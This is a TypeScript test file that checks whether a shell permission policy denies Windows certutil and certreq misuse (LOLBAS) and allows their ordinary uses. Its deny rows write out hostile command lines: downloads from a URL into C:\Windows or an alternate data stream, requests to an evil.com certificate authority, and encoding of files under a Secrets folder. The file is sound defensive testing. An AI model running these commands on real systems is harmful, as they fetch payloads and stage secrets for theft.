// Windows built-in programs (LOLBAS, binaries A-L) that fetched, reached a server, stored a command
// line or read and wrote files unseen (review l1: F1, F2, F5, F6, F8, F9, F10): each deny or ask
// row was allowed under `Shell(*)` before its fix; the allow rows are their ordinary uses.
import { describe, it } from 'vitest';
import { expectDecision } from './helpers/policy.js';
import { WINDOWS_RULES, WIN, windowsTable as table } from './helpers/windows.js';
import type { DecisionKind } from '../src/policy/types.js';

/** One test per row: the Git Bash line decides as expected under WINDOWS_RULES in WIN. */
const bashTable = (rows: [string, DecisionKind][]): void => it.each(rows)('bash: %s: %s', (line, expected) => {
  expectDecision(WINDOWS_RULES, 'shell', line, expected, WIN);
});

describe('certutil and certreq: the file after a URL is written, POSIX paths from Git Bash, -config HOST\\CA', () => {
  table([
    ['certutil -urlcache -f https://good.com/x C:\\Windows\\x', 'deny'],
    ['certutil -verifyctl -f https://good.com/x C:\\Windows\\x', 'deny'],
    ['certutil -urlcache -split -f https://good.com/x C:\\Windows\\x', 'deny'],
    ['certutil.exe -urlcache -f https://good.com/x.ps1 C:\\Windows\\x:ttt', 'deny'],
    ['certutil -config evil.com\\CA -ping', 'deny'],
    ['certreq -submit -config evil.com\\CA req.txt', 'deny'],
    ['certreq -submit req.txt C:\\Windows\\x.cer', 'deny'],
    ['certutil -config good.com\\CA -ping', 'allow'],
    ['certreq -submit -config good.com\\CA req.txt out.cer', 'allow'],
    ['certutil -hashfile x.zip SHA256', 'allow'],
  ]);
  bashTable([
    ['certutil -encode /c/Secrets/x out', 'deny'],
    ['certutil -decode x /c/Windows/x', 'deny'],
    ["certutil -config 'evil.com\\CA' -ping", 'deny'],
    ['certutil -encode a.txt b.txt', 'allow'],
  ]);
});
